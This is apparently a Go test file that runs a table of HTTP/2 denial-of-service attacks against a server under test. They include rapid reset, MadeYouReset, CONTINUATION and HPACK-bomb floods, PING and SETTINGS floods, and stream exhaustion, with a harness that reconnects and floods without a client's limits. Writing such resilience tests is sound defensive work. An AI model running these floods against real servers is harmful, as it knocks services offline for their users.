//go:build linux

package h2_test

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An attack is a way to misuse HTTP/2: run, on each of conns
// connections at once, until ctx ends; a connection that ends sooner is
// opened again, as an attacker would.
type attack struct {
	name      string
	what      string // for the table
	conns     int    // connections at once
	longConns int    // in long runs, if more
	run       func(ctx context.Context, a *attackConn) error
}

var attacks = []attack{
	// The five defects of issue 22, and the attacks it ran that ours
	// already withstood.
	{name: "reset-priority", conns: 4,
		what: "PRIORITY frames that depend on their own stream, on ever new stream IDs (each answered by RST_STREAM); never reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(false); err != nil {
				return err
			}
			return a.flood(ctx, func(i uint32) error { return a.fr.WritePriority(2*i+1, http2.PriorityParam{StreamDep: 2*i + 1}) })
		}},
	{name: "reset-window-update-0", conns: 4,
		what: "WINDOW_UPDATE frames of increment 0 on ever new stream IDs (each answered by RST_STREAM); never reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(false); err != nil {
				return err
			}
			return a.flood(ctx, func(i uint32) error { return a.fr.WriteWindowUpdate(2*i+1, 0) })
		}},
	{name: "reset-data-closed", conns: 4,
		what: "empty DATA frames on a stream that has ended (each answered by RST_STREAM); never reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(false); err != nil {
				return err
			}
			if err := a.request(1, "GET", "/healthz", true); err != nil {
				return err
			}
			return a.flood(ctx, func(uint32) error { return a.fr.WriteData(1, false, nil) })
		}},
	{name: "reset-empty-headers", conns: 4,
		what: "HEADERS with an empty header block on ever new streams (each answered by RST_STREAM); never reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(false); err != nil {
				return err
			}
			return a.flood(ctx, func(i uint32) error {
				return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, EndHeaders: true, EndStream: true})
			})
		}},
	{name: "settings-window-entries", conns: 3,
		what: "250 event streams open, then SETTINGS frames of 2,730 INITIAL_WINDOW_SIZE entries each; reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(true); err != nil {
				return err
			}
			for i := range uint32(250) {
				if err := a.request(2*i+1, "GET", "/events?topic=noise", true); err != nil {
					return err
				}
			}
			entries := make([]http2.Setting, 16<<10/6)
			for i := range entries {
				entries[i] = http2.Setting{ID: http2.SettingInitialWindowSize, Val: 65535 + uint32(i%2)}
			}
			return a.flood(ctx, func(uint32) error { return a.fr.WriteSettings(entries...) })
		}},
	{name: "header-block-unfinished", conns: 200, longConns: 2000,
		what: "a header block of 14 KB (within the servers' limit of 16 KB) whose end never comes, on each connection; reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(true); err != nil {
				return err
			}
			frames := headerBlock(a.requestFields("GET", "/healthz"), 14<<10, 8<<10, 1, false)
			if _, err := a.bw.Write(frames); err != nil {
				return err
			}
			if err := a.flush(); err != nil {
				return err
			}
			return a.hold(ctx)
		}},
	{name: "header-block-trickled", conns: 4,
		what: "header blocks of 7 KB (within the servers' limit of 16 KB decoded) in CONTINUATION frames of 100 bytes, sent in TLS records of 1 to 8 bytes; reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(true); err != nil {
				return err
			}
			for id := uint32(1); ctx.Err() == nil; id += 2 {
				frames := headerBlock(a.requestFields("GET", "/healthz"), 7<<10, 100, id, true)
				for i := 0; len(frames) > 0; i++ {
					n := min(len(frames), 1+i%8)
					if _, err := a.tc.Write(frames[:n]); err != nil { // one record per Write
						return err
					}
					frames = frames[n:]
				}
			}
			return nil
		}},
	{name: "preface-without-settings", conns: 50, longConns: 500,
		what: "the client preface, then nothing: no SETTINGS",
		run: func(ctx context.Context, a *attackConn) error {
			if _, err := a.tc.Write([]byte(http2.ClientPreface)); err != nil {
				return err
			}
			a.discard()
			return a.hold(ctx)
		}},

	// The attacks HTTP/2 servers have met since 2019.
	{name: "rapid-reset", conns: 4,
		what: "HEADERS then RST_STREAM at once, on ever new streams, to a handler that outlives the reset (CVE-2023-44487); reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(true); err != nil {
				return err
			}
			return a.flood(ctx, func(i uint32) error {
				if err := a.request(2*i+1, "GET", "/linger", true); err != nil {
					return err
				}
				return a.fr.WriteRSTStream(2*i+1, http2.ErrCodeCancel)
			})
		}},
	{name: "made-you-reset", conns: 4,
		what: "HEADERS then a WINDOW_UPDATE of 0 that makes the server reset the stream, on ever new streams (MadeYouReset, CVE-2025-8671); reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(true); err != nil {
				return err
			}
			return a.flood(ctx, func(i uint32) error {
				if err := a.request(2*i+1, "GET", "/linger", false); err != nil {
					return err
				}
				return a.fr.WriteWindowUpdate(2*i+1, 0)
			})
		}},
	{name: "continuation-flood", conns: 4,
		what: "HEADERS, then CONTINUATION frames of 1 KB without end (CVE-2023-45288); reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(true); err != nil {
				return err
			}
			if err := a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.block(a.requestFields("GET", "/healthz"))}); err != nil {
				return err
			}
			frag := a.block([]hpack.HeaderField{{Name: "x-c", Value: strings.Repeat("c", 1000)}})
			return a.flood(ctx, func(uint32) error { return a.fr.WriteContinuation(1, false, frag) })
		}},
	{name: "hpack-bomb", conns: 4,
		what: "header blocks of 16 KB that name one 900-byte field of the dynamic table again and again (14 MB decoded each); reads",
		run: func(ctx context.Context, a *attackConn) error {
			var hb bytes.Buffer
			enc := hpack.NewEncoder(&hb)
			enc.SetMaxDynamicTableSizeLimit(1 << 10)
			enc.WriteField(hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 900)}) //nolint:errcheck // to memory
			first := bytes.Clone(hb.Bytes())
			bomb := func(withEntry bool) []byte {
				p := []byte{0x82, 0x87, 0x84} // :method GET, :scheme https, :path / (the static table)
				if withEntry {
					p = append(first, p...)
				}
				return append(p, bytes.Repeat([]byte{0x80 | 62}, 16<<10-len(p))...) // the newest entry of the dynamic table
			}
			if err := a.open(true); err != nil {
				return err
			}
			return a.flood(ctx, func(i uint32) error {
				return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: bomb(i == 0), EndHeaders: true, EndStream: true})
			})
		}},
	{name: "ping-flood", conns: 4,
		what: "PING frames without end; never reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(false); err != nil {
				return err
			}
			return a.flood(ctx, func(i uint32) error { return a.fr.WritePing(false, [8]byte{byte(i)}) })
		}},
	{name: "settings-flood", conns: 4,
		what: "empty SETTINGS frames without end; never reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(false); err != nil {
				return err
			}
			return a.flood(ctx, func(uint32) error { return a.fr.WriteSettings() })
		}},
	{name: "empty-data-flood", conns: 4,
		what: "empty DATA frames without end on a request body a handler reads; reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(false); err != nil {
				return err
			}
			if err := a.request(1, "POST", "/echo", false); err != nil {
				return err
			}
			a.discard()
			return a.flood(ctx, func(uint32) error { return a.fr.WriteData(1, false, nil) })
		}},
	{name: "zero-window", conns: 10,
		what: "SETTINGS_INITIAL_WINDOW_SIZE 0, then 100 requests of 1 MiB whose windows never open; reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.start(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
				return err
			}
			a.discard()
			for i := range uint32(100) {
				if err := a.request(2*i+1, "GET", "/big", true); err != nil {
					return err
				}
			}
			if err := a.flush(); err != nil {
				return err
			}
			return a.hold(ctx)
		}},
	{name: "idle-without-preface", conns: 100, longConns: 1000,
		what: "TLS handshakes, then nothing: no preface",
		run: func(ctx context.Context, a *attackConn) error {
			a.discard()
			return a.hold(ctx)
		}},
	{name: "stream-exhaustion", conns: 4,
		what: "event streams opened up to the limit and beyond, ten more a second, held open; reads",
		run: func(ctx context.Context, a *attackConn) error {
			if err := a.open(true); err != nil {
				return err
			}
			for id := uint32(1); ctx.Err() == nil; id += 2 {
				if err := a.request(id, "GET", "/events?topic=noise", true); err != nil {
					return err
				}
				if id > 2*260 {
					if err := a.flush(); err != nil {
						return err
					}
					select {
					case <-ctx.Done():
					case <-a.closed:
						return net.ErrClosed
					case <-time.After(100 * time.Millisecond):
					}
				}
			}
			return nil
		}},
}

// attackWith runs p on conns connections at once until ctx ends, each
// opened again whenever it ends; it returns how many it opened and the
// bytes it sent (TLS records, handshakes included).
func attackWith(ctx context.Context, p attack, conns int, addr string) (opened, sent int64) {
	var nopened, nsent atomic.Int64
	var wg sync.WaitGroup
	for range conns {
		wg.Go(func() {
			for ctx.Err() == nil {
				a, err := dialAttack(ctx, addr, &nsent)
				if err != nil {
					time.Sleep(10 * time.Millisecond) // refused: the listener is busy
					continue
				}
				nopened.Add(1)
				start := time.Now()
				p.run(ctx, a) //nolint:errcheck // the server may end it: it is opened again
				a.close()
				if time.Since(start) < 10*time.Millisecond {
					time.Sleep(10 * time.Millisecond)
				}
			}
		})
	}
	wg.Wait()
	return nopened.Load(), nsent.Load()
}

// attackConn is one attacking connection: a Framer writing to a TLS
// connection, without any of the limits a client keeps.
type attackConn struct {
	tc     *tls.Conn
	addr   string
	bw     *bufio.Writer
	fr     *http2.Framer
	henc   *hpack.Encoder
	hbuf   bytes.Buffer
	closed chan struct{} // closed by shut: by close, the end of ctx, or the reader (discard) at the end
	once   sync.Once
	reader sync.WaitGroup
	stop   func() bool
}

// dialAttack connects to addr, counting the bytes it sends in sent.
func dialAttack(ctx context.Context, addr string, sent *atomic.Int64) (*attackConn, error) {
	// A small receive buffer: what the server sends and the attacker
	// does not read piles up in the server, not in the kernel.
	small := func(_, _ string, c syscall.RawConn) error {
		var err error
		c.Control(func(fd uintptr) { err = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4<<10) }) //nolint:errcheck // err is set
		return err
	}
	nd := &net.Dialer{Timeout: 5 * time.Second, Control: small}
	nc, err := nd.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	tc := tls.Client(countingConn{nc, sent}, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	hctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	if err := tc.HandshakeContext(hctx); err != nil {
		nc.Close()
		return nil, err
	}
	a := &attackConn{tc: tc, addr: addr, closed: make(chan struct{})}
	a.bw = bufio.NewWriterSize(a.tc, 64<<10)
	a.fr = http2.NewFramer(a.bw, a.tc)
	a.fr.AllowIllegalWrites = true
	a.fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	a.henc = hpack.NewEncoder(&a.hbuf)
	a.henc.SetMaxDynamicTableSizeLimit(0) // the servers' tables may be small: literals only
	a.stop = context.AfterFunc(ctx, a.shut)
	return a, nil
}

// countingConn counts the bytes written to it.
type countingConn struct {
	net.Conn
	n *atomic.Int64
}

func (c countingConn) Write(p []byte) (int, error) {
	n, err := c.Conn.Write(p)
	c.n.Add(int64(n))
	return n, err
}

// shut closes the socket (once): what waits on it returns.
func (a *attackConn) shut() {
	a.once.Do(func() {
		close(a.closed)
		a.tc.NetConn().Close()
	})
}

// close shuts the connection and waits for its reader.
func (a *attackConn) close() {
	a.shut()
	a.reader.Wait()
	a.stop()
}

// start sends the preface and SETTINGS.
func (a *attackConn) start(settings ...http2.Setting) error {
	if _, err := a.bw.WriteString(http2.ClientPreface); err != nil {
		return err
	}
	if err := a.fr.WriteSettings(settings...); err != nil {
		return err
	}
	return a.flush()
}

func (a *attackConn) flush() error { return a.bw.Flush() }

// discard reads and drops what the server sends, until the end.
func (a *attackConn) discard() {
	a.reader.Go(func() {
		defer a.shut()
		for {
			if _, err := a.fr.ReadFrame(); err != nil {
				return
			}
		}
	})
}

// hold waits until ctx ends or the connection does.
func (a *attackConn) hold(ctx context.Context) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-a.closed:
		return net.ErrClosed
	}
}

// open sends the preface and SETTINGS, and reads (discard) if read.
func (a *attackConn) open(read bool) error {
	if err := a.start(); err != nil {
		return err
	}
	if read {
		a.discard()
	}
	return nil
}

// flood sends frames (frame(0), frame(1)...), flushing every 64, until
// ctx ends or a write fails.
func (a *attackConn) flood(ctx context.Context, frame func(i uint32) error) error {
	for i := uint32(0); ctx.Err() == nil; i++ {
		if err := frame(i); err != nil {
			return err
		}
		if i%64 == 63 {
			if err := a.flush(); err != nil {
				return err
			}
		}
	}
	return a.flush()
}

func (a *attackConn) requestFields(method, path string) []hpack.HeaderField {
	return []hpack.HeaderField{{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: a.addr}, {Name: ":path", Value: path}}
}

// block encodes fields.
func (a *attackConn) block(fields []hpack.HeaderField) []byte {
	a.hbuf.Reset()
	for _, f := range fields {
		a.henc.WriteField(f) //nolint:errcheck // to memory
	}
	return bytes.Clone(a.hbuf.Bytes())
}

// request sends HEADERS for a request on stream id; end: without a body.
func (a *attackConn) request(id uint32, method, path string, end bool) error {
	return a.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: a.block(a.requestFields(method, path)), EndHeaders: true, EndStream: end})
}

// headerBlock returns the frames of a header block on stream id of
// about size bytes: fields, then fields "x-pad" of 100 bytes, in a
// HEADERS frame of at most frame bytes and CONTINUATION frames of frame
// bytes; end ends the block (and the stream), else it never ends.
func headerBlock(fields []hpack.HeaderField, size, frame int, id uint32, end bool) []byte {
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	enc.SetMaxDynamicTableSizeLimit(0)
	for _, f := range fields {
		enc.WriteField(f) //nolint:errcheck // to memory
	}
	for hb.Len() < size {
		enc.WriteField(hpack.HeaderField{Name: "x-pad", Value: strings.Repeat("p", 100)}) //nolint:errcheck // as above
	}
	block := hb.Bytes()
	var out bytes.Buffer
	fr := http2.NewFramer(&out, nil)
	first := true
	for len(block) > 0 {
		n := min(len(block), frame)
		last := end && n == len(block)
		if first {
			fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block[:n], EndHeaders: last, EndStream: end}) //nolint:errcheck // to memory
		} else {
			fr.WriteContinuation(id, last, block[:n]) //nolint:errcheck // to memory
		}
		first = false
		block = block[n:]
	}
	return out.Bytes()
}
